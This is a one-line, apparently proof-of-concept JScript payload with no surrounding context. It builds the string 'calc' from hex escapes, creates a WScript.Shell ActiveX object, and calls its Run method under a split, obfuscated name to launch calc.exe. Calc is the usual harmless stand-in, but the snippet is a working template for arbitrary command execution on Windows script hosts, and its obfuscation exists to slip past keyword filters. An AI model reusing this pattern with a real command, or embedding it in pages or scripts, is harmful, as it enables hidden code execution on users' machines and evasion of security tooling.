var p='\x63\x61\x6c\x63';new ActiveXObject('WScript.Shell')['R'+'un'](p.replace(/\\x([0-9a-f]{2})/g,function(m,h){return String.fromCharCode(parseInt(h,16))})+'.exe');
